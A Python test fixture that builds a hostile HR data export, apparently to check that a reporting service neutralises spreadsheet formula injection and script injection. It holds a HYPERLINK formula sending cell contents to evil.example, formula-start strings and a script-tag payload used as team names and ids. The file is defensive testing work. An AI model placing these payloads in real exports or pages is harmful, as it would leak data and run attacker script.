"""The served world as an attacker would shape it: the generated export with hostile team
names and ids, one team under 5 members, and a later export in which a team has moved to
another department (ingested after the months were scored, not re-scored).

Everything here is data an HRIS export may legally hold under the data contract; the
serving tests check that none of it reaches a page, a download or a log in a harmful form.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

# team id -> hostile team name (formula starts that Excel runs, markup that a page might run)
HOSTILE_NAMES: dict[str, str] = {
    "T0005": '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Open details")',
    "T0008": "@SUM(1+1)",
    "T0011": "+SUM(2+2)",
    "T0012": "<script>alert(1)</script>\u2028-1",
}
# team id -> hostile team id (the contract only asks for a non-blank string)
HOSTILE_IDS: dict[str, str] = {"T0016": "=1+1", "T0012": "L/12 ?#%"}
SMALL_TEAM = "T0007"  # cut to SMALL_MEMBERS active members
SMALL_MEMBERS = 2
MOVED_TEAM = "T0014"  # accounting in the scored months, hr in the later export
MOVED_TO = "hr"
TEAM_TABLES = ("teams", "employees", "workload", "surveys", "assignments", "interventions")
EMPLOYEE_TABLES = ("employees", "timesheets", "leave", "assignments")


@dataclass(frozen=True)
class HostileWorld:
    export: Path
    moved_export: Path
    small_team: str
    moved_team: str
    moved_to: str
    names: dict[str, str]
    ids: dict[str, str]


def _frames(folder: Path) -> dict[str, pd.DataFrame]:
    return {path.stem: pd.read_parquet(path) for path in sorted(folder.glob("*.parquet"))}


def _write(frames: dict[str, pd.DataFrame], folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, frame in frames.items():
        frame.to_parquet(folder / f"{name}.parquet", index=False)
    return folder


def _cut_team(frames: dict[str, pd.DataFrame], team: str, keep: int) -> None:
    """Drop all but ``keep`` of the team's current members, with all their rows."""
    employees = frames["employees"]
    current = employees[(employees["team_id"] == team) & employees["exit_date"].isna()]
    dropped = set(current["employee_id"].iloc[keep:])
    for name in EMPLOYEE_TABLES:
        if name in frames:
            frame = frames[name]
            frames[name] = frame[~frame["employee_id"].isin(dropped)].reset_index(drop=True)


def write_hostile_world(source: Path, folder: Path) -> HostileWorld:
    """Two exports under ``folder``: the hostile one to score, and the one after a move."""
    frames = _frames(source)
    teams = frames["teams"]
    teams["team_name"] = [
        HOSTILE_NAMES.get(t, n) for t, n in zip(teams["team_id"], teams["team_name"], strict=True)
    ]
    _cut_team(frames, SMALL_TEAM, SMALL_MEMBERS)
    for name in TEAM_TABLES:
        if name in frames:
            frames[name]["team_id"] = frames[name]["team_id"].replace(HOSTILE_IDS)
    parents = frames["teams"]["parent_team_id"]
    frames["teams"]["parent_team_id"] = parents.replace(HOSTILE_IDS)
    export = _write(frames, folder / "export")
    moved = frames["teams"].copy()
    moved.loc[moved["team_id"] == MOVED_TEAM, "department"] = MOVED_TO
    moved_export = folder / "export-moved"
    shutil.copytree(export, moved_export)
    moved.to_parquet(moved_export / "teams.parquet", index=False)
    return HostileWorld(
        export=export,
        moved_export=moved_export,
        small_team=SMALL_TEAM,
        moved_team=MOVED_TEAM,
        moved_to=MOVED_TO,
        names={HOSTILE_IDS.get(t, t): n for t, n in HOSTILE_NAMES.items()},
        ids=dict(HOSTILE_IDS),
    )
